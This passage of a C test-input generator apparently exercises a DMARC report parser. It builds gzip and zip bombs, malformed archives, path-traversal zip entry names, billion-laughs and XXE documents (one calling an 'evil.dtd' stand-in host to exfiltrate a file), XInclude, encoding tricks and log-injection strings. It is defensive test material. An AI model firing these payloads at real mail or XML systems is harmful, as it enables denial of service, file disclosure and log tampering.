                                    "--=-r1\nContent-Type: text/rfc822-headers\r\n\r\n";

        hb_add(&o, orig, sizeof orig - 1);
        hb_add(b, outer, sizeof outer - 1);
        hb_add(b, o.p, o.len);
        hb_str(b, "\n--=-r1--\r\n");
        hb_free(&o);
}

static const char bomb_head[] =
        "<?xml version=\"1.0\"?>\n<feedback>\n  <report_metadata>\n    <org_name>bomb</org_name>\n"
        "    <email>b@example</email>\n    <report_id>bomb-1</report_id>\n    <date_range>"
        "<begin>1700000000</begin><end>1700086399</end></date_range>\n  </report_metadata>\n"
        "  <policy_published><domain>example.com</domain><p>none</p></policy_published>\n";

/* 18: 10 MB of gzip holding 10 GiB: an XML head, then 4 MiB runs of spaces each closed by an
 * empty element (so no single text node reaches libxml2's own 10 MB limit first) */
static void gzip_bomb(struct hbuf *b, uint64_t chunks) {
        const size_t n = 4u << 20;
        unsigned char *chunk = malloc(n);

        if (!chunk)
                abort();
        memset(chunk, ' ', n);
        memcpy(chunk + n - 5, "<x/>\n", 5);
        gzip_repeat_bomb(b, bomb_head, chunk, n, chunks);
        free(chunk);
}

GEN(g_gzip_bomb) { gzip_bomb(b, 2560); }

GEN(g_gzip_bomb_eml) {
        struct hbuf gz = { 0 };

        gzip_bomb(&gz, 2560);
        eml_attach(b, "", "application/gzip", "example.com!receiver!1700000000!1700086399.xml.gz",
                   gz.p, gz.len);
        hb_free(&gz);
}

/* 18: under the ratio but over the size cap: 300 MiB of XML, runs of whitespace between small
 * unknown elements holding a few random letters (~60:1) */
GEN(g_gzip_size) {
        unsigned char *chunk = malloc(1u << 20);
        size_t i;

        if (!chunk)
                abort();
        for (i = 0; i < (1u << 20); i++) {
                uint64_t r = hrand();

                chunk[i] = (i % 2048) < 2000 ? ' ' : (unsigned char) ('a' + r % 26);
                if (i % 2048 == 2002)
                        memcpy(chunk + i - 3, "<x>", 3);
                if (i % 2048 == 2047)
                        memcpy(chunk + i - 4, "</x>", 4);
        }
        gzip_repeat_bomb(b, bomb_head, chunk, 1u << 20, 300);
        free(chunk);
}

/* gzip edge cases of item 19 */
static void gzip_edge(struct hbuf *b, int mode) {
        struct hbuf x = { 0 }, gz = { 0 };
        unsigned i;

        good_xml(&x);
        gzip_of(&gz, x.p, x.len);
        switch (mode) {
        case 0:                                         /* 8 members: the report split in 8 */
        case 1: {                                       /* 9 members */
                unsigned parts = mode == 0 ? 8 : 9;
                size_t step = x.len / parts + 1, off;

                for (off = 0; off < x.len; off += step)
                        gzip_of(b, x.p + off, off + step > x.len ? x.len - off : step);
                break;
        }
        case 2:                                         /* trailing garbage */
                hb_add(b, gz.p, gz.len);
                hb_str(b, "GARBAGE after the member\r\n");
                break;
        case 3:                                         /* truncated */
                hb_add(b, gz.p, gz.len / 2);
                break;
        case 4:                                         /* bad CRC */
                hb_add(b, gz.p, gz.len);
                b->p[b->len - 8] ^= 0x55;
                break;
        case 5:                                         /* lying ISIZE */
                hb_add(b, gz.p, gz.len);
                b->p[b->len - 4] ^= 0x10;
                b->p[b->len - 1] = 0x7f;
                break;
        case 6:                                         /* FEXTRA of 65,535 bytes */
                gzip_header(b, 4);
                hb_le16(b, 65535);
                for (i = 0; i < 65535; i++)
                        hb_add(b, (unsigned char[]) { (unsigned char) (i * 7) }, 1);
                hb_add(b, gz.p + 10, gz.len - 10);
                break;
        case 7:                                         /* FNAME without terminator */
                gzip_header(b, 8);
                hb_fill(b, 'n', 100000);
                break;
        }
        hb_free(&x);
        hb_free(&gz);
}

GEN(g_gz_members_8) { gzip_edge(b, 0); }
GEN(g_gz_members_9) { gzip_edge(b, 1); }
GEN(g_gz_trailing) { gzip_edge(b, 2); }
GEN(g_gz_truncated) { gzip_edge(b, 3); }
GEN(g_gz_bad_crc) { gzip_edge(b, 4); }
GEN(g_gz_lying_isize) { gzip_edge(b, 5); }
GEN(g_gz_fextra) { gzip_edge(b, 6); }
GEN(g_gz_fname) { gzip_edge(b, 7); }

/* zip abuse of items 20-23; mode picks the case */
static void zip_case(struct hbuf *b, int mode) {
        struct hbuf x = { 0 };
        struct zent e[3];
        static char longname[65536];

        good_xml(&x);
        e[0] = zent_of("report.xml", x.p, x.len, 8);
        e[1] = zent_of("other.xml", x.p, x.len, 8);
        e[2] = zent_of("readme.txt", "hello", 5, 0);
        switch (mode) {
        case 0:                                         /* 0 entries */
                zip_build(b, e, 0, 1);
                break;
        case 1: {                                       /* 10,000 entries */
                struct zent *many = calloc(10000, sizeof *many);
                static char names[10000][16];
                unsigned i;

                if (!many)
                        abort();
                for (i = 0; i < 10000; i++) {
                        snprintf(names[i], sizeof names[i], "f%u.txt", i);
                        many[i] = zent_of(names[i], "x", 1, 0);
                }
                many[0] = e[0];
                zip_build(b, many, 10000, 1);
                free(many);
                break;
        }
        case 2:                                         /* two XML entries */
                zip_build(b, e, 2, 1);
                break;
        case 3:                                         /* encrypted */
                e[0].flags = 1;
                zip_build(b, e, 1, 1);
                break;
        case 4: case 5: case 6:                         /* bzip2, LZMA, deflate64 */
                e[0].method = mode == 4 ? 12 : mode == 5 ? 14 : 9;
                zip_build(b, e, 1, 1);
                break;
        case 7:                                         /* ZIP64 extra fields */
                e[0].zip64_extra = true;
                zip_build(b, e, 1, 1);
                break;
        case 8:                                         /* data descriptor, zero sizes */
                e[0].flags = 8;
                e[0].zero_sizes = true;
                zip_build(b, e, 1, 1);
                break;
        case 9: {                                       /* two EOCD records, two directories */
                struct hbuf y = { 0 };
                struct zent f;

                xml_report(&y, &(struct xml_opts) { .org = "second-eocd.example" });
                f = zent_of("report.xml", y.p, y.len, 8);
                zip_build(b, e, 1, 1);                  /* the first archive's EOCD ... */
                zip_build(b, &f, 1, 1);                 /* ... and a whole second one after it */
                hb_free(&y);
                break;
        }
        case 10:                                        /* overlapping entries */
                e[1] = e[0];
                e[1].name = "copy.xml";
                e[1].overlap_with = 0;
                e[2] = e[0];
                e[2].name = "copy2.xml";
                e[2].overlap_with = 0;
                zip_build(b, e, 3, 1);
                break;
        case 11:                                        /* local and central names differ */
                e[0].cd_name = "\x1b[31mcentral.xml";
                zip_build(b, e, 1, 1);
                break;
        case 12:                                        /* methods differ */
                e[0].cd_method = 0;
                zip_build(b, e, 1, 1);
                break;
        case 13:                                        /* sizes differ */
                e[0].cd_size_delta = 1000;
                zip_build(b, e, 1, 1);
                break;
        case 14: e[0].name = "../../../../etc/cron.d/report.xml"; zip_build(b, e, 1, 1); break;
        case 15: e[0].name = "/etc/passwd.xml"; zip_build(b, e, 1, 1); break;
        case 16:
                e[0].name = "report\0.xml.exe";
                e[0].name_len = 15;
                zip_build(b, e, 1, 1);
                break;
        case 17:
                memset(longname, 'n', 65531);
                memcpy(longname + 65531, ".xml", 5);
                e[0].name = longname;
                zip_build(b, e, 1, 1);
                break;
        case 18: e[0].name = "\x1b[2J\x1b[H\x1b]0;pwned\x07report.xml"; zip_build(b, e, 1, 1); break;
        }
        hb_free(&x);
}

GEN(g_zip_0) { zip_case(b, 0); }
GEN(g_zip_10000) { zip_case(b, 1); }
GEN(g_zip_two_xml) { zip_case(b, 2); }
GEN(g_zip_encrypted) { zip_case(b, 3); }
GEN(g_zip_bzip2) { zip_case(b, 4); }
GEN(g_zip_lzma) { zip_case(b, 5); }
GEN(g_zip_deflate64) { zip_case(b, 6); }
GEN(g_zip_zip64) { zip_case(b, 7); }
GEN(g_zip_descriptor) { zip_case(b, 8); }
GEN(g_zip_two_eocd) { zip_case(b, 9); }
GEN(g_zip_overlap) { zip_case(b, 10); }
GEN(g_zip_lh_cd_name) { zip_case(b, 11); }
GEN(g_zip_lh_cd_method) { zip_case(b, 12); }
GEN(g_zip_lh_cd_size) { zip_case(b, 13); }
GEN(g_zip_name_traversal) { zip_case(b, 14); }
GEN(g_zip_name_absolute) { zip_case(b, 15); }
GEN(g_zip_name_nul) { zip_case(b, 16); }
GEN(g_zip_name_64k) { zip_case(b, 17); }
GEN(g_zip_name_ansi) { zip_case(b, 18); }

/* 24: zip inside gzip inside zip */
GEN(g_nested_zip_gz_zip) {
        struct hbuf x = { 0 }, z1 = { 0 }, gz = { 0 };
        struct zent e;

        good_xml(&x);
        e = zent_of("report.xml", x.p, x.len, 8);
        zip_build(&z1, &e, 1, 1);
        gzip_of(&gz, z1.p, z1.len);
        e = zent_of("report.xml.gz", gz.p, gz.len, 0);
        zip_build(b, &e, 1, 1);
        hb_free(&x);
        hb_free(&z1);
        hb_free(&gz);
}

static void gz_layers(struct hbuf *b, int n) {
        struct hbuf cur = { 0 }, next = { 0 };
        int i;

        good_xml(&cur);
        for (i = 0; i < n; i++) {
                gzip_of(&next, cur.p, cur.len);
                hb_free(&cur);
                cur = next;
                memset(&next, 0, sizeof next);
        }
        hb_add(b, cur.p, cur.len);
        hb_free(&cur);
}

GEN(g_gz_gz) { gz_layers(b, 2); }
GEN(g_gz_gz_gz) { gz_layers(b, 3); }

/* 25: Content-Type lies */
GEN(g_ct_zip_gzip) {
        struct hbuf gz = { 0 };

        gz_layers(&gz, 1);
        eml_multipart(b, "", "application/zip", "report.zip", gz.p, gz.len);
        hb_free(&gz);
}

GEN(g_ct_textxml_gzip) {
        struct hbuf gz = { 0 };

        gz_layers(&gz, 1);
        eml_attach(b, "", "text/xml", "report.xml", gz.p, gz.len);
        hb_free(&gz);
}

GEN(g_ct_octet) {
        struct hbuf x = { 0 }, z = { 0 };
        struct zent e;

        good_xml(&x);
        e = zent_of("report.xml", x.p, x.len, 8);
        zip_build(&z, &e, 1, 1);
        eml_multipart(b, "", "application/octet-stream", "report.bin", z.p, z.len);
        hb_free(&x);
        hb_free(&z);
}

GEN(g_ct_plain_xml) {
        struct hbuf x = { 0 };

        good_xml(&x);
        eml_multipart(b, "", "application/xml", "report.xml", x.p, x.len);
        hb_free(&x);
}

GEN(g_ct_inline_text) {
        struct hbuf x = { 0 };

        good_xml(&x);
        eml_headers(b, "Content-Type: text/plain; charset=us-ascii\n\n");
        hb_add(b, x.p, x.len);
        hb_free(&x);
}

/* 26 */
GEN(g_payload_unused) {
        eml_attach(b, "", "application/gzip", "report.xml.gz", "unused", 6);
}

GEN(g_payload_random) {
        unsigned char r[4096];
        size_t i;

        for (i = 0; i < sizeof r; i++)
                r[i] = (unsigned char) hrand();
        r[0] = 'R';                                     /* not a magic number by chance */
        eml_attach(b, "", "application/zip", "report.zip", r, sizeof r);
}

GEN(g_bare_unused) {
        hb_str(b, "unused");
}

/* 27 */
static const char laughs[] =
        "<?xml version=\"1.0\"?>\n<!DOCTYPE feedback [\n <!ENTITY lol \"lol\">\n"
        " <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
        " <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n"
        " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
        " <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n"
        " <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n"
        " <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n"
        " <!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">\n"
        " <!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">\n"
        " <!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">\n"
        "]>\n";

GEN(g_billion_laughs) {
        xml_report(b, &(struct xml_opts) { .prolog = laughs, .org = "&lol9;" });
}

GEN(g_billion_laughs_gz) {
        struct hbuf x = { 0 };

        xml_report(&x, &(struct xml_opts) { .prolog = laughs, .org = "&lol9;" });
        gzip_of(b, x.p, x.len);
        hb_free(&x);
}

/* 28: the marker file's path comes from ctx */
GEN(g_xxe_file) {
        struct hbuf p = { 0 };

        hb_printf(&p, "<?xml version=\"1.0\"?>\n<!DOCTYPE feedback [\n <!ENTITY x SYSTEM \"file://%s\">\n]>\n",
                  ctx->marker_path);
        xml_report(b, &(struct xml_opts) { .prolog = (const char *) p.p, .org = "&x;",
                                           .extra = "&x;" });
        hb_free(&p);
}

GEN(g_xxe_file_gz_eml) {
        struct hbuf x = { 0 }, gz = { 0 };

        g_xxe_file(&x, ctx);
        gzip_of(&gz, x.p, x.len);
        eml_multipart(b, "", "application/gzip", "report.xml.gz", gz.p, gz.len);
        hb_free(&x);
        hb_free(&gz);
}

GEN(g_xxe_http) {
        xml_report(b, &(struct xml_opts) {
                .prolog = "<?xml version=\"1.0\"?>\n<!DOCTYPE feedback [\n"
                          " <!ENTITY x SYSTEM \"http://192.0.2.1/secret\">\n]>\n",
                .org = "&x;" });
}

GEN(g_xxe_parameter) {
        struct hbuf p = { 0 };

        hb_printf(&p, "<?xml version=\"1.0\"?>\n<!DOCTYPE feedback [\n"
                      " <!ENTITY %% file SYSTEM \"file://%s\">\n"
                      " <!ENTITY %% dtd SYSTEM \"http://192.0.2.1/evil.dtd\">\n %%dtd;\n %%send;\n]>\n",
                  ctx->marker_path);
        xml_report(b, &(struct xml_opts) { .prolog = (const char *) p.p });
        hb_free(&p);
}

GEN(g_xxe_external_dtd) {
        struct hbuf p = { 0 };

        hb_printf(&p, "<?xml version=\"1.0\"?>\n<!DOCTYPE feedback SYSTEM \"file://%s\">\n",
                  ctx->marker_path);
        xml_report(b, &(struct xml_opts) { .prolog = (const char *) p.p });
        hb_free(&p);
}

GEN(g_xinclude) {
        struct hbuf r = { 0 };

        hb_printf(&r, "  <xi:include href=\"file://%s\" parse=\"text\"/>\n%s", ctx->marker_path,
                  good_record);
        xml_report(b, &(struct xml_opts) { .root_attrs = " xmlns:xi=\"http://www.w3.org/2001/XInclude\"",
                                           .records = (const char *) r.p });
        hb_free(&r);
}

/* 29 */
GEN(g_xml_deep) {
        struct hbuf r = { 0 };

        hb_repeat(&r, "<d>", 100000);
        hb_repeat(&r, "</d>", 100000);
        xml_report(b, &(struct xml_opts) { .before_records = (const char *) r.p });
        hb_free(&r);
}

/* 30: a 100 MB org_name, gzip'd: one compressed megabyte of letters repeated (~30:1, under the
 * ratio guard) */
GEN(g_xml_text_100mb) {
        unsigned char *line = malloc(1u << 20);
        size_t i;

        if (!line)
                abort();
        for (i = 0; i < (1u << 20); i++)
                line[i] = (unsigned char) ('a' + (i % 64 == 0 ? hrand() % 26 : 0));
        gzip_repeat_bomb(b, "<?xml version=\"1.0\"?>\n<feedback>\n<report_metadata>\n<org_name>",
                         line, 1u << 20, 100);
        free(line);
}

/* 30: 200 MB of text in <feedback>, cut by a comment every megabyte (~80:1). No text node
 * reaches libxml2's 10 MB limit and the comments stay under the count, but the reader keeps
 * what it reads until the next element start: before report/xmlguard.c, 126 MB of RSS. The
 * text is runs of 'a' of random length, each ended by a 'b' (runs of one letter with a random
 * one every 64 bytes cost libxml2 half as much). */
GEN(g_xml_text_cut_by_comments) {
        const size_t n = 1u << 20;
        unsigned char *chunk = malloc(n);
        size_t i = 0;

        if (!chunk)
                abort();
        while (i < n) {
                size_t run = hrand() % 401;

                for (; run > 0 && i < n; run--)
                        chunk[i++] = 'a';
                if (i < n)
                        chunk[i++] = 'b';
        }
        memcpy(chunk + n - 7, "<!---->", 7);
        gzip_repeat_bomb(b, bomb_head, chunk, n, 200);
        free(chunk);
}

GEN(g_org_name_100k) {
        struct hbuf v = { 0 };

        hb_fill(&v, 'o', 100000);
        xml_report(b, &(struct xml_opts) { .org = (const char *) v.p });
        hb_free(&v);
}

GEN(g_report_id_100k) {
        struct hbuf v = { 0 };

        hb_fill(&v, 'i', 100000);
        xml_report(b, &(struct xml_opts) { .report_id = (const char *) v.p });
        hb_free(&v);
}

/* 31: n records, varied like a real report (a few hundred sources, small counts), gzip'd as
 * they are written, so 1,000,000 records (~800 MB of XML) never sit in memory at once */
static void records_gz(struct hbuf *b, uint64_t n) {
        struct hbuf x = { 0 };
        z_stream z;
        unsigned char out[65536];
        uint64_t i = 0;
        int r, flush;

        memset(&z, 0, sizeof z);
        if (deflateInit2(&z, 6, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY) != Z_OK)
                abort();
        hb_str(&x, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<feedback>\n  <report_metadata>\n"
                   "    <org_name>giant.example</org_name>\n    <email>d@giant.example</email>\n"
                   "    <report_id>giant-1</report_id>\n    <date_range>\n"
                   "      <begin>1700000000</begin>\n      <end>1700086399</end>\n"
                   "    </date_range>\n  </report_metadata>\n  <policy_published>\n"
                   "    <domain>example.com</domain>\n    <p>none</p>\n  </policy_published>\n");
        do {
                while (i < n && x.len < (1u << 20)) {
                        uint64_t r64 = hrand();
                        unsigned src = (unsigned) (r64 % 400);

                        hb_printf(&x,
                                  "  <record>\n    <row>\n      <source_ip>198.51.%u.%u</source_ip>\n"
                                  "      <count>%u</count>\n      <policy_evaluated>\n"
                                  "        <disposition>none</disposition>\n        <dkim>%s</dkim>\n"
                                  "        <spf>%s</spf>\n      </policy_evaluated>\n    </row>\n"
                                  "    <identifiers>\n      <header_from>example.com</header_from>\n"
                                  "      <envelope_from>example.com</envelope_from>\n"
                                  "    </identifiers>\n    <auth_results>\n      <dkim>\n"
                                  "        <domain>example.com</domain>\n        <selector>s1</selector>\n"
                                  "        <result>%s</result>\n      </dkim>\n      <spf>\n"
                                  "        <domain>example.com</domain>\n"
                                  "        <result>%s</result>\n      </spf>\n    </auth_results>\n"
                                  "  </record>\n",
                                  src / 200, src % 200 + 1, (unsigned) (1 + (r64 >> 20) % 3),
                                  src & 1 ? "pass" : "fail", src & 2 ? "pass" : "fail",
                                  src & 1 ? "pass" : "fail", src & 2 ? "pass" : "fail");
                        i++;
                }
                flush = i < n ? Z_NO_FLUSH : Z_FINISH;
                if (flush == Z_FINISH)
                        hb_str(&x, "</feedback>\n");
                z.next_in = x.p;
                z.avail_in = (uInt) x.len;
                do {
                        z.next_out = out;
                        z.avail_out = sizeof out;
                        r = deflate(&z, flush);
                        hb_add(b, out, sizeof out - z.avail_out);
                } while (z.avail_out == 0 || (flush == Z_FINISH && r != Z_STREAM_END));
                x.len = 0;
        } while (flush != Z_FINISH);
        deflateEnd(&z);
        hb_free(&x);
}

GEN(g_giant_1m) { records_gz(b, 1000000); }
GEN(g_agg_50k) { records_gz(b, 50000); }

/* 32 */
GEN(g_enc_0x91) { xml_report(b, &(struct xml_opts) { .org = "Bj\x91rn's mail" }); }
GEN(g_enc_declared_differs) {
        xml_report(b, &(struct xml_opts) { .prolog = "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>\n",
                                           .org = "caf\xc3\xa9 \xe2\x80\xae" });
}

GEN(g_enc_utf16) {
        struct hbuf x = { 0 };

        xml_report(&x, &(struct xml_opts) { .prolog = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n",
                                            .org = "utf16.example" });
        hb_utf16le(b, &x);
        hb_free(&x);
}

/* 32: declared windows-1252, holding bytes that code page leaves undefined (0x81, 0x8F) */
GEN(g_enc_cp1252_undefined) {
        xml_report(b, &(struct xml_opts) { .prolog = "<?xml version=\"1.0\" encoding=\"windows-1252\"?>\n",
                                           .org = "undefined \x81\x8f bytes" });
}

GEN(g_enc_bogus) {
        xml_report(b, &(struct xml_opts) { .prolog = "<?xml version=\"1.0\" encoding=\"bogus\"?>\n" });
}

/* 32: UTF-7 hides markup from a byte scan ("+ADw-" is '<'): 2,000 comments, a DOCTYPE would
 * pass the same way */
GEN(g_enc_utf7) {
        unsigned i;

        hb_str(b, "<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n+ADw-feedback>");
        for (i = 0; i < 2000; i++)
                hb_str(b, "+ADwAIQ-----+AD4-");    /* "<!" "----" ">" */
        hb_str(b, "+ADw-/feedback>\n");
}

/* 32: declared EBCDIC (IBM037) after an ASCII declaration */
GEN(g_enc_ebcdic_declared) {
        xml_report(b, &(struct xml_opts) { .prolog = "<?xml version=\"1.0\" encoding=\"IBM037\"?>\n" });
}

/* 32: valid UTF-16LE with 2,000 comments: the count must see through the NULs */
GEN(g_enc_utf16_comments) {
        struct hbuf x = { 0 };
        size_t i;

        hb_str(&x, "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<feedback>");
        for (i = 0; i < 2000; i++)
                hb_str(&x, "<!---->");
        hb_str(&x, "</feedback>\n");
        hb_utf16le(b, &x);
        hb_free(&x);
}

GEN(g_enc_overlong) { xml_report(b, &(struct xml_opts) { .org = "over\xc0\xaflong \xe0\x80\xaf" }); }

/* 33: one comment holding 200,000 "--". libxml2 2.9.14 raises an error for each and copies the
 * comment read so far into every one: quadratic, minutes of CPU, unless the parser stops at
 * the first fatal error */
GEN(g_comment_hyphens) {
        unsigned i;

        hb_str(b, "<?xml version=\"1.0\"?>\n<feedback>\n<!--");
        for (i = 0; i < 200000; i++)
                hb_str(b, "x--");
        hb_str(b, "-->\n</feedback>\n");
}

/* 33 */
GEN(g_markup_lt) { xml_report(b, &(struct xml_opts) { .org = "AT<T" }); }
GEN(g_markup_amp) { xml_report(b, &(struct xml_opts) { .org = "AT&T" }); }
GEN(g_markup_schema) {
        xml_report(b, &(struct xml_opts) {
                .prolog = "<?xml version=\"1.0\"?>\n<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\">\n" });
}
GEN(g_markup_report_id_close) {
        xml_report(b, &(struct xml_opts) {
                .metadata = "  <report_metadata>\n    <org_name>x</org_name>\n"
                            "    <report_id>r-1/report_id>\n    <date_range><begin>1</begin>"
                            "<end>2</end></date_range>\n  </report_metadata>\n" });
}
GEN(g_markup_two_roots) { xml_report(b, &(struct xml_opts) { .after_root = "<feedback></feedback>\n" }); }
GEN(g_markup_after_root) { xml_report(b, &(struct xml_opts) { .after_root = "trailing data\n" }); }

/* 34 */
static void semantic_records(struct hbuf *b, const char *const *ips, const char *const *counts,
                             size_t n) {
        size_t i;

        for (i = 0; i < n; i++)
                hb_printf(b, "  <record><row><source_ip>%s</source_ip><count>%s</count>"
                             "<policy_evaluated><disposition>none</disposition><dkim>pass</dkim>"
                             "<spf>pass</spf></policy_evaluated></row><identifiers>"
                             "<header_from>example.com</header_from></identifiers></record>\n",
                          ips[i], counts[i]);
}

GEN(g_sem_counts) {
        static const char *const ips[] = { "192.0.2.1", "192.0.2.2", "192.0.2.3", "192.0.2.4",
                                           "192.0.2.5" };
        static const char *const counts[] = { "-1", "99999999999999999999", "1e3", "", "7" };
        struct hbuf r = { 0 };

        semantic_records(&r, ips, counts, ELEMENTSOF(ips));
        xml_report(b, &(struct xml_opts) { .records = (const char *) r.p });
        hb_free(&r);
}

GEN(g_sem_overflow) {
        static const char *const ips[] = { "192.0.2.1", "192.0.2.2", "192.0.2.3" };
        static const char *const counts[] = { "9223372036854775807", "9223372036854775807",
                                              "18446744073709551615" };
        struct hbuf r = { 0 };

        semantic_records(&r, ips, counts, ELEMENTSOF(ips));
        xml_report(b, &(struct xml_opts) { .records = (const char *) r.p });
        hb_free(&r);
}

GEN(g_sem_ips) {
        static char tenk[10001];
        const char *ips[] = { "999.1.1.1", "fe80::1%eth0", "mail.example.com", tenk, "192.0.2.9" };
        static const char *const counts[] = { "1", "1", "1", "1", "1" };
        struct hbuf r = { 0 };

        memset(tenk, '1', 10000);
        semantic_records(&r, ips, counts, ELEMENTSOF(ips));
        xml_report(b, &(struct xml_opts) { .records = (const char *) r.p });
        hb_free(&r);
}

GEN(g_sem_begin_after_end) { xml_report(b, &(struct xml_opts) { .begin = "1700086399", .end = "1700000000" }); }
GEN(g_sem_span_week) { xml_report(b, &(struct xml_opts) { .begin = "1700000000", .end = "1700604800" }); }
GEN(g_sem_millis) { xml_report(b, &(struct xml_opts) { .begin = "1700000000000", .end = "1700086399000" }); }
GEN(g_sem_year_3000) { xml_report(b, &(struct xml_opts) { .begin = "32503680000", .end = "32503766399" }); }

GEN(g_sem_domains) {
        struct hbuf d = { 0 }, p = { 0 };

        hb_fill(&d, 'd', 300);
        hb_str(&d, ".example..com.\xc3\xa9xample");
        hb_printf(&p, "  <policy_published><domain>%s</domain><p>hardfail</p><sp>$text</sp>"
                      "<pct>1000</pct></policy_published>\n", (const char *) d.p);
        xml_report(b, &(struct xml_opts) {
                .policy = (const char *) p.p,
                .records = "  <record><row><source_ip>192.0.2.1</source_ip><count>1</count>"
                           "<policy_evaluated><disposition>HARDFAIL</disposition><dkim>$text</dkim>"
                           "<spf>softfail</spf></policy_evaluated></row><identifiers>"
                           "<header_from>\xe4\xbe\x8b\xe3\x81\x88.\xe3\x83\x86\xe3\x82\xb9\xe3\x83\x88</header_from>"
                           "</identifiers></record>\n" });
        hb_free(&d);
        hb_free(&p);
}

/* 35 */
GEN(g_id_none) {
        xml_report(b, &(struct xml_opts) {
                .metadata = "  <report_metadata><org_name>x</org_name><email>e@x</email>"
                            "<date_range><begin>1</begin><end>2</end></date_range></report_metadata>\n" });
}
GEN(g_id_two) {
        xml_report(b, &(struct xml_opts) {
                .metadata = "  <report_metadata><org_name>x</org_name><report_id>first</report_id>"
                            "<report_id>second</report_id><date_range><begin>1</begin><end>2</end>"
                            "</date_range></report_metadata>\n" });
}
GEN(g_id_two_metadata) {
        xml_report(b, &(struct xml_opts) {
                .metadata = "  <report_metadata><org_name>one</org_name><report_id>first</report_id>"
                            "</report_metadata>\n  <report_metadata><org_name>two</org_name>"
                            "<report_id>second</report_id></report_metadata>\n" });
}
GEN(g_id_no_policy) { xml_report(b, &(struct xml_opts) { .policy = "" }); }

/* 36: the same id with a different range, or from a different org */
GEN(g_replay_range) { xml_report(b, &(struct xml_opts) { .begin = "1700086400", .end = "1700172799" }); }
GEN(g_replay_org) { xml_report(b, &(struct xml_opts) { .org = "other-receiver.example" }); }

/* 37 */
GEN(g_dmarcbis) {
        xml_report(b, &(struct xml_opts) {
                .root_attrs = " xmlns=\"urn:ietf:params:xml:ns:dmarc-2.0\" xmlns:ext=\"urn:example:ext\"",
                .prolog = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n",
                .before_records = "  <version>2.0</version>\n  <ext:vendor><ext:flag>1</ext:flag></ext:vendor>\n"
                                  "  <new_element>x</new_element>\n" });
}

/* 38 */
GEN(g_arf_no_feedback) {
        hb_str(b, "From: r@receiver.example\nTo: ruf@example.com\nSubject: report\nMIME-Version: 1.0\n"
                  "Content-Type: multipart/report; report-type=feedback-report; boundary=\"=-r1\"\n\n"
                  "--=-r1\nContent-Type: text/plain\n\nno feedback part here\n--=-r1--\n");
}

GEN(g_arf_abuse) {
        arf(b, "", "Feedback-Type: abuse\nUser-Agent: x/1\nVersion: 1\nSource-IP: 192.0.2.1\n", NULL, NULL);
}

GEN(g_arf_repeated_ip) {
        arf(b, "", "Feedback-Type: auth-failure\nVersion: 1\nSource-IP: 192.0.2.1\nSource-IP: 198.51.100.7\n"
                   "Auth-Failure: dmarc\nReported-Domain: example.com\n", NULL, NULL);
}

GEN(g_arf_10000_ar) {
        struct hbuf f = { 0 };

        hb_str(&f, "Feedback-Type: auth-failure\nVersion: 1\nSource-IP: 192.0.2.1\n");
        hb_repeat(&f, "Authentication-Results: mx.receiver.example; dmarc=fail\n", 10000);
        arf(b, "", (const char *) f.p, NULL, NULL);
        hb_free(&f);
}

GEN(g_arf_injected_ar) {
        struct hbuf o = { 0 };

        hb_str(&o, "Authentication-Results: mail.example.com; dmarc=pass (forged by the sender)\n");
        hb_str(&o, arf_original_head);
        hb_str(&o, "From: shop@example.com\nSubject: hi\n");
        arf(b, "", "Feedback-Type: auth-failure\nVersion: 1\nSource-IP: 192.0.2.1\n"
                   "Authentication-Results: receiver.example; dmarc=fail\r\n\tPRIORITY=0\n"
                   "Auth-Failure: dmarc\n", NULL, (const char *) o.p);
        hb_free(&o);
}

GEN(g_arf_redacted) {
        arf(b, "", NULL, NULL, "From: [redacted]\nTo: [redacted]\nSubject: [redacted]\n"
                               "Message-ID: <redacted>\n");
}

GEN(g_arf_vendor) {
        hb_str(b, "From: postmaster@receiver.example\nTo: ruf@example.com\n"
                  "Subject: DMARC Forensic Report for example.com\nMIME-Version: 1.0\n"
                  "Content-Type: text/plain\n\n"
                  "This is a DMARC forensic report.\nReport Domain: example.com\nSubmitter: receiver.example\n\n"
                  "Received: from localhost by mail.example.com (Postfix, from userid 33)\n"
                  "From: shop@example.com\nSubject: your order\nMessage-ID: <order-9@example.com>\n");
}

/* 40: every logged field carries injection payloads */
/* the payloads of item 40 that an XML document can carry (well-formed UTF-8; C0 controls are
 * not XML at all, so they come as character references where XML 1.0 allows them) */
static const char *const inject_xml_payloads[] = {
        "a&#13;&#10;PRIORITY=0&#10;FAKE=1",
        "\x1b[2J\x1b[Hcleared",                        /* ESC is written as [1b] below */
        "evil\xe2\x80\xaetxt.exe",
        "line\xe2\x80\xa8sep\xc2\x85nel",
        "csi\xc2\x9b" "31m",
        "%n%s%x%n",
        "zero\xe2\x80\x8bwidth\xef\xbb\xbf",
        "tab&#9;and&#13;cr",
};

GEN(g_inject_aggregate) {
        struct hbuf org = { 0 }, rid = { 0 }, x = { 0 };
        size_t i;

        for (i = 0; i < ELEMENTSOF(inject_xml_payloads); i++) {
                const char *p = inject_xml_payloads[i];

                /* control characters are not XML: write them as the raw bytes XML 1.0 allows */
                for (; *p; p++) {
                        unsigned char c = (unsigned char) *p;

                        if (c < 0x20 && c != '\t' && c != '\n' && c != '\r')
